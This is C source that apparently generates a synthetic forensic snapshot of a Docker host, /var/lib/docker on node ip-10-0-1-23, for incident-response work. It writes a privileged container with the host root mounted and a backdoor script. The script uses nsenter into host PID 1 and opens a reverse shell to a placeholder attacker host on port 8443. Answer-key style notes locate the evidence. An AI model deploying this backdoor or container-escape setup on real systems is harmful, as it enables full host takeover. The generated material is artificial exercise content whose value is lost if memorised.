/* SPDX-License-Identifier: Apache-2.0 */
/*
 * docker.c - the Docker Engine state of node ip-10-0-1-23 (/var/lib/docker, overlay2
 * driver) as a snapshot of the node's disk holds it: the privileged backdoor container the
 * attacker started through docker.sock (config.v2.json, hostconfig.json, json-file log,
 * writable layer with the backdoor), a benign node-exporter container, the image store and
 * the layer database. Image ids are the real SHA-256 of the image configs written here;
 * chain ids follow Docker's formula. Layer contents are abridged to a few files each.
 */
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "out.h"
#include "rng.h"
#include "sb.h"
#include "sha256.h"
#include "timefmt.h"
#include "world.h"

#define DROOT NODE0_DIR "/var/lib/docker"
#define NEVER "0001-01-01T00:00:00Z"
#define PATH_ENV "PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin"

static const char backdoor[] =
    "#!/bin/sh\n"
    "# node-agent\n"
    "while true; do\n"
    "  nsenter -t 1 -m -u -i -n -p -- /bin/bash -c "
    "'exec bash -i >& /dev/tcp/" ATTACKER "/8443 0>&1'\n"
    "  sleep 1800\n"
    "done\n";

struct image {
    const char *repo, *tag, *created, *cmd_json, *entry_json, *extra_cfg;
    int n_layers;
    const char *files[3][3]; /* per layer: up to three abridged files (path) */
    char id[65], diff[3][65], chain[3][65], cache[3][65], link[3][27];
};

static struct image imgs[2] = {
    { "alpine", "3.20", "2024-09-06T12:05:36Z", "[\"/bin/sh\"]", "null", "", 1,
      { { "etc/os-release", "etc/alpine-release", "etc/apk/repositories" } }, "", { "" }, { "" },
      { "" }, { "" } },
    { "prom/node-exporter", "v1.8.2", "2024-07-14T16:43:10Z", "null",
      "[\"/bin/node_exporter\"]", ",\"ExposedPorts\":{\"9100/tcp\":{}},\"User\":\"nobody\"", 3,
      { { "etc/os-release", "etc/passwd" }, { "etc/ssl/certs/ca-certificates.crt" },
        { "LICENSE", "NOTICE" } },
      "", { "" }, { "" }, { "" }, { "" } },
};

static void put(const char *path, const char *text)
{
    out_file(path, text, strlen(text));
}

static void putf(const char *fmt, const char *a, const char *b, const char *text)
{
    char rel[400];

    snprintf(rel, sizeof rel, fmt, a, b);
    put(rel, text);
}

/* Short link names of overlay2: 26 upper-case letters and digits. */
static void short_link(char o[27])
{
    rng_chars(o, 26, "ABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789");
}

static void layer_dir(const char *id, const char *link, const char *lower)
{
    char rel[400], tgt[120];

    snprintf(rel, sizeof rel, DROOT "/overlay2/%s/link", id);
    put(rel, link);
    if (lower) {
        snprintf(rel, sizeof rel, DROOT "/overlay2/%s/lower", id);
        put(rel, lower);
        snprintf(rel, sizeof rel, DROOT "/overlay2/%s/work", id);
        out_dir(rel);
    }
    snprintf(rel, sizeof rel, DROOT "/overlay2/l/%s", link);
    snprintf(tgt, sizeof tgt, "../%s/diff", id);
    out_symlink(rel, tgt);
    snprintf(rel, sizeof rel, DROOT "/overlay2/%s/diff", id);
    out_dir(rel);
}

static void write_image(struct image *im)
{
    struct sb cfg = { 0 }, ids = { 0 };
    char rel[400], prev[80] = "", buf[200];

    for (int i = 0; i < im->n_layers; i++) {
        rng_hex(im->diff[i], 64);
        rng_hex(im->cache[i], 64);
        short_link(im->link[i]);
        if (i == 0) {
            snprintf(im->chain[i], sizeof im->chain[i], "%s", im->diff[i]);
        } else {
            snprintf(buf, sizeof buf, "sha256:%s sha256:%s", prev, im->diff[i]);
            sha256_hex(buf, strlen(buf), im->chain[i]);
        }
        snprintf(prev, sizeof prev, "%s", im->chain[i]);
        sb_f(&ids, "%s\"sha256:%s\"", i ? "," : "", im->diff[i]);
    }
    sb_f(&cfg, "{\"architecture\":\"amd64\",\"config\":{\"Env\":[\"" PATH_ENV "\"],\"Cmd\":%s,"
               "\"Entrypoint\":%s%s,\"WorkingDir\":\"/\"},\"created\":\"%s\",",
         im->cmd_json, im->entry_json, im->extra_cfg, im->created);
    sb_f(&cfg, "\"history\":[{\"created\":\"%s\",\"created_by\":\"ADD rootfs.tar.gz / # buildkit"
               "\",\"comment\":\"buildkit.dockerfile.v0\"}],\"os\":\"linux\",\"rootfs\":{\"type\":"
               "\"layers\",\"diff_ids\":[%s]}}", im->created, ids.p);
    sha256_hex(cfg.p, cfg.n, im->id);
    snprintf(rel, sizeof rel, DROOT "/image/overlay2/imagedb/content/sha256/%s", im->id);
    out_file(rel, cfg.p, cfg.n);
    snprintf(rel, sizeof rel, DROOT "/image/overlay2/imagedb/metadata/sha256/%s/lastUpdated",
             im->id);
    put(rel, "2026-10-02T08:14:31.402913667Z");
    for (int i = 0; i < im->n_layers; i++) {
        char lower[200] = "";

        putf(DROOT "/image/overlay2/layerdb/sha256/%s/cache-id%s", im->chain[i], "",
             im->cache[i]);
        snprintf(buf, sizeof buf, "sha256:%s", im->diff[i]);
        putf(DROOT "/image/overlay2/layerdb/sha256/%s/diff%s", im->chain[i], "", buf);
        snprintf(buf, sizeof buf, "%llu", 180000ULL + rng_n(9000000));
        putf(DROOT "/image/overlay2/layerdb/sha256/%s/size%s", im->chain[i], "", buf);
        if (i) {
            snprintf(buf, sizeof buf, "sha256:%s", im->chain[i - 1]);
            putf(DROOT "/image/overlay2/layerdb/sha256/%s/parent%s", im->chain[i], "", buf);
            for (int k = i - 1; k >= 0; k--) {
                size_t n = strlen(lower);

                snprintf(lower + n, sizeof lower - n, "%sl/%s", n ? ":" : "", im->link[k]);
            }
        }
        layer_dir(im->cache[i], im->link[i], i ? lower : NULL);
        for (int f = 0; f < 3 && im->files[i][f]; f++) {
            snprintf(rel, sizeof rel, DROOT "/overlay2/%s/diff/%s", im->cache[i],
                     im->files[i][f]);
            snprintf(buf, sizeof buf, "# %s of %s:%s (abridged in this synthetic snapshot)\n",
                     im->files[i][f], im->repo, im->tag);
            put(rel, buf);
        }
    }
    free(cfg.p);
    free(ids.p);
}

struct ctr {
    const char *id, *name, *path, *args_json, *cmd_json, *created, *started, *binds_json;
    const char *mounts_json, *restart, *user;
    const struct image *im;
    int privileged, pid;
};

static void write_container(const struct ctr *c, const char *log, size_t log_n)
{
    struct sb b = { 0 };
    char rel[400], mount_id[65], init_link[27], mnt_link[27], lower[400], sandbox[65];
    const struct image *im = c->im;
    size_t n;

    snprintf(rel, sizeof rel, DROOT "/containers/%s/", c->id);
    n = strlen(rel);
    sb_f(&b, "{\"StreamConfig\":{},\"State\":{\"Running\":true,\"Paused\":false,"
             "\"Restarting\":false,\"OOMKilled\":false,\"RemovalInProgress\":false,"
             "\"Dead\":false,\"Pid\":%d,\"ExitCode\":0,\"Error\":\"\",\"StartedAt\":\"%s\","
             "\"FinishedAt\":\"" NEVER "\",\"Health\":null},", c->pid, c->started);
    sb_f(&b, "\"ID\":\"%s\",\"Created\":\"%s\",\"Managed\":false,\"Path\":\"%s\","
             "\"Args\":%s,", c->id, c->created, c->path, c->args_json);
    sb_f(&b, "\"Config\":{\"Hostname\":\"%s\",\"Domainname\":\"\",\"User\":\"%s\","
             "\"AttachStdin\":false,\"AttachStdout\":false,\"AttachStderr\":false,"
             "\"Tty\":false,\"OpenStdin\":false,\"StdinOnce\":false,\"Env\":[\"" PATH_ENV
             "\"],\"Cmd\":%s,\"Image\":\"%s:%s\",\"Volumes\":null,\"WorkingDir\":\"\","
             "\"Entrypoint\":%s,\"OnBuild\":null,\"Labels\":{}},",
         nodes[0].name, c->user, c->cmd_json, im->repo, im->tag, im->entry_json);
    sb_f(&b, "\"Image\":\"sha256:%s\",\"ImageManifest\":null,\"NetworkSettings\":{"
             "\"Bridge\":\"\",\"SandboxID\":\"", im->id);
    rng_hex(sandbox, 64);
    sb_s(&b, sandbox);
    sb_s(&b, "\",\"SandboxKey\":\"/var/run/docker/netns/default\",\"Networks\":{\"host\":{"
             "\"IPAMConfig\":null,\"Links\":null,\"Aliases\":null,\"NetworkID\":\"");
    sb_s(&b, "4f1d0b2a9c8e7d6f5a4b3c2d1e0f9a8b7c6d5e4f3a2b1c0d9e8f7a6b5c4d3e2f");
    sb_s(&b, "\",\"Gateway\":\"\",\"IPAddress\":\"\",\"MacAddress\":\"\"}},\"Ports\":{}},");
    sb_f(&b, "\"LogPath\":\"/var/lib/docker/containers/%s/%s-json.log\",\"Name\":\"/%s\","
             "\"Driver\":\"overlay2\",\"OS\":\"linux\",\"RestartCount\":0,"
             "\"HasBeenStartedBefore\":true,\"HasBeenManuallyStopped\":false,"
             "\"MountPoints\":%s,\"SecretReferences\":null,\"ConfigReferences\":null,"
             "\"MountLabel\":\"\",\"ProcessLabel\":\"\",\"AppArmorProfile\":\"%s\","
             "\"SeccompProfile\":\"%s\",\"NoNewPrivileges\":false,",
         c->id, c->id, c->name, c->mounts_json, c->privileged ? "unconfined" : "docker-default",
         c->privileged ? "unconfined" : "");
    sb_f(&b, "\"HostnamePath\":\"/var/lib/docker/containers/%s/hostname\",\"HostsPath\":"
             "\"/var/lib/docker/containers/%s/hosts\",\"ShmPath\":\"\",\"ResolvConfPath\":"
             "\"/var/lib/docker/containers/%s/resolv.conf\",\"LocalLogCacheMeta\":{"
             "\"HaveNotifyEnabled\":false}}", c->id, c->id, c->id);
    memcpy(rel + n, "config.v2.json", 15);
    out_file(rel, b.p, b.n);
    b.n = 0;
    sb_f(&b, "{\"Binds\":%s,\"ContainerIDFile\":\"\",\"LogConfig\":{\"Type\":\"json-file\","
             "\"Config\":{}},\"NetworkMode\":\"host\",\"PortBindings\":{},\"RestartPolicy\":{"
             "\"Name\":\"%s\",\"MaximumRetryCount\":0},\"AutoRemove\":false,"
             "\"VolumeDriver\":\"\",\"VolumesFrom\":null,\"ConsoleSize\":[0,0],\"CapAdd\":null,"
             "\"CapDrop\":null,\"CgroupnsMode\":\"host\",\"Dns\":[],\"DnsOptions\":[],"
             "\"DnsSearch\":[],\"ExtraHosts\":null,\"GroupAdd\":null,\"IpcMode\":\"private\","
             "\"Cgroup\":\"\",\"Links\":null,\"OomScoreAdj\":0,\"PidMode\":\"host\","
             "\"Privileged\":%s,\"PublishAllPorts\":false,\"ReadonlyRootfs\":false,"
             "\"SecurityOpt\":%s,\"UTSMode\":\"\",\"UsernsMode\":\"\",\"ShmSize\":67108864,"
             "\"Runtime\":\"runc\",\"Isolation\":\"\",\"Mounts\":null,\"MaskedPaths\":%s,"
             "\"ReadonlyPaths\":%s}",
         c->binds_json, c->restart, c->privileged ? "true" : "false",
         c->privileged ? "[\"label=disable\"]" : "null",
         c->privileged ? "null" : "[\"/proc/asound\",\"/proc/acpi\",\"/proc/kcore\"]",
         c->privileged ? "null" : "[\"/proc/bus\",\"/proc/fs\",\"/proc/irq\",\"/proc/sys\"]");
    memcpy(rel + n, "hostconfig.json", 16);
    out_file(rel, b.p, b.n);
    snprintf(rel + n, sizeof rel - n, "%s-json.log", c->id);
    out_file(rel, log, log_n);
    memcpy(rel + n, "hostname", 9);
    snprintf(sandbox, sizeof sandbox, "%s\n", nodes[0].name);
    put(rel, sandbox);
    memcpy(rel + n, "hosts", 6);
    put(rel, "127.0.0.1 localhost localhost.localdomain\n10.0.1.23 ip-10-0-1-23.ec2.internal "
             "ip-10-0-1-23\n");
    memcpy(rel + n, "resolv.conf", 12);
    put(rel, "search ec2.internal\noptions timeout:2 attempts:5\nnameserver 10.0.0.2\n");
    memcpy(rel + n, "checkpoints", 12);
    out_dir(rel);
    /* the writable layer and its init layer */
    rng_hex(mount_id, 64);
    short_link(init_link);
    short_link(mnt_link);
    putf(DROOT "/image/overlay2/layerdb/mounts/%s/mount-id%s", c->id, "", mount_id);
    snprintf(lower, sizeof lower, "%s-init", mount_id);
    putf(DROOT "/image/overlay2/layerdb/mounts/%s/init-id%s", c->id, "", lower);
    snprintf(lower, sizeof lower, "sha256:%s", im->chain[im->n_layers - 1]);
    putf(DROOT "/image/overlay2/layerdb/mounts/%s/parent%s", c->id, "", lower);
    n = (size_t)snprintf(lower, sizeof lower, "l/%s", init_link);
    for (int k = im->n_layers - 1; k >= 0; k--)
        n += (size_t)snprintf(lower + n, sizeof lower - n, ":l/%s", im->link[k]);
    layer_dir(mount_id, mnt_link, lower);
    snprintf(rel, sizeof rel, "%s-init", mount_id);
    n = (size_t)snprintf(lower, sizeof lower, "l/%s", im->link[im->n_layers - 1]);
    for (int k = im->n_layers - 2; k >= 0; k--)
        n += (size_t)snprintf(lower + n, sizeof lower - n, ":l/%s", im->link[k]);
    layer_dir(rel, init_link, lower);
    putf(DROOT "/overlay2/%s-init/diff/etc/hostname%s", mount_id, "", "");
    putf(DROOT "/overlay2/%s-init/diff/etc/hosts%s", mount_id, "", "");
    putf(DROOT "/overlay2/%s-init/diff/etc/resolv.conf%s", mount_id, "", "");
    snprintf(rel, sizeof rel, DROOT "/overlay2/%s-init/diff/etc/mtab", mount_id);
    out_symlink(rel, "/proc/mounts");
    if (strcmp(c->name, BD_NAME) == 0) {
        int k = wp_note(at(13, 15, 10), 4, "docker-root",
                        "container /" BD_NAME " created through docker.sock: Privileged, "
                        "PidMode host, NetworkMode host, / bound at /host, RestartPolicy "
                        "always");

        snprintf(notes[k].where, sizeof notes[k].where, DROOT "/containers/%s/hostconfig.json",
                 c->id);
        snprintf(rel, sizeof rel, DROOT "/overlay2/%s/diff" BD_PATH, mount_id);
        k = wp_note(at(13, 15, 11), 4, "docker-root",
                    "the backdoor " BD_PATH " (a callback loop to " ATTACKER ":8443 through "
                    "nsenter into the host) in the container's writable layer");
        snprintf(notes[k].where, sizeof notes[k].where, "%s", rel);
        out_file_mode(rel, backdoor, sizeof backdoor - 1, 0755);
        snprintf(rel, sizeof rel, DROOT "/overlay2/%s/diff/root/.ash_history", mount_id);
        put(rel, "");
    }
    free(b.p);
}

/* The backdoor's json-file log: bash's complaints each time the callback is refused. */
static void backdoor_log(struct sb *log)
{
    char ts[TF_LEN];
    int64_t first = at(BD_SESSION_END_H, BD_SESSION_END_M, 30) + BD_RETRY;

    for (int64_t t = first; t < g_day + 86400; t += BD_RETRY) {
        int64_t ns = t * 1000000000LL + 3000000 + (int64_t)rng_n(9000000);

        if (t == first) {
            int k = wp_note(t, 12, "docker-root",
                            "the backdoor keeps calling back every %d s, refused once the "
                            "attacker stops listening (json-file log, stderr)", BD_RETRY);

            snprintf(notes[k].where, sizeof notes[k].where,
                     DROOT "/containers/" BD_CID "/" BD_CID "-json.log line 1");
        }

        sb_f(log, "{\"log\":\"/bin/bash: connect: Connection refused\\n\",\"stream\":\"stderr\","
                  "\"time\":\"%s\"}\n", tf_iso_ns(ts, ns));
        sb_f(log, "{\"log\":\"/bin/bash: line 1: /dev/tcp/" ATTACKER "/8443: Connection refused"
                  "\\n\",\"stream\":\"stderr\",\"time\":\"%s\"}\n", tf_iso_ns(ts, ns + 41877));
    }
}

void write_docker(void)
{
    struct sb log = { 0 }, repo = { 0 };
    char created[TF_LEN], started[TF_LEN];
    struct ctr bd = { BD_CID, BD_NAME, BD_PATH, "[]", "[\"" BD_PATH "\"]", created, started,
                      "[\"/:/host\"]",
                      "{\"/host\":{\"Source\":\"/\",\"Destination\":\"/host\",\"RW\":true,"
                      "\"Name\":\"\",\"Driver\":\"\",\"Type\":\"bind\",\"Propagation\":"
                      "\"rprivate\",\"Spec\":{\"Type\":\"bind\",\"Source\":\"/\",\"Target\":"
                      "\"/host\"},\"SkipMountpointCreation\":false}}",
                      "always", "", &imgs[0], 1, 48211 };
    struct ctr ne = { NE_CID, "node-exporter", "/bin/node_exporter",
                      "[\"--path.rootfs=/host\"]", "[\"--path.rootfs=/host\"]",
                      "2026-10-02T08:15:02.117402953Z", "2026-10-02T08:15:02.530117245Z",
                      "[\"/:/host:ro,rslave\"]",
                      "{\"/host\":{\"Source\":\"/\",\"Destination\":\"/host\",\"RW\":false,"
                      "\"Name\":\"\",\"Driver\":\"\",\"Type\":\"bind\",\"Propagation\":"
                      "\"rslave\",\"Spec\":{\"Type\":\"bind\",\"Source\":\"/\",\"Target\":"
                      "\"/host\",\"ReadOnly\":true,\"BindOptions\":{\"Propagation\":\"rslave\""
                      "}},\"SkipMountpointCreation\":false}}",
                      "unless-stopped", "nobody", &imgs[1], 0, 2207 };
    static const char ne_log[] =
        "{\"log\":\"ts=2026-10-02T08:15:02.541Z caller=node_exporter.go:193 level=info "
        "msg=\\\"Starting node_exporter\\\" version=\\\"(version=1.8.2, branch=HEAD, "
        "revision=f1e0e8360aa60b6cb5e5cc1560bed348fc2c1895)\\\"\\n\",\"stream\":\"stderr\","
        "\"time\":\"2026-10-02T08:15:02.541318730Z\"}\n"
        "{\"log\":\"ts=2026-10-02T08:15:02.549Z caller=tls_config.go:313 level=info "
        "msg=\\\"Listening on\\\" address=[::]:9100\\n\",\"stream\":\"stderr\","
        "\"time\":\"2026-10-02T08:15:02.549904116Z\"}\n";

    tf_iso_ns(created, at(13, 15, 10) * 1000000000LL + 311847206);
    tf_iso_ns(started, at(13, 15, 13) * 1000000000LL + 18830211);
    write_image(&imgs[0]);
    write_image(&imgs[1]);
    sb_f(&repo, "{\"Repositories\":{\"alpine\":{\"alpine:3.20\":\"sha256:%s\"},"
                "\"prom/node-exporter\":{\"prom/node-exporter:v1.8.2\":\"sha256:%s\"}}}",
         imgs[0].id, imgs[1].id);
    out_file(DROOT "/image/overlay2/repositories.json", repo.p, repo.n);
    backdoor_log(&log);
    write_container(&bd, log.p, log.n);
    write_container(&ne, ne_log, sizeof ne_log - 1);
    put(DROOT "/engine-id", "5f3b1d7e-2a4c-4e6f-8b0d-1c3e5a7f9b2d");
    free(log.p);
    free(repo.p);
}
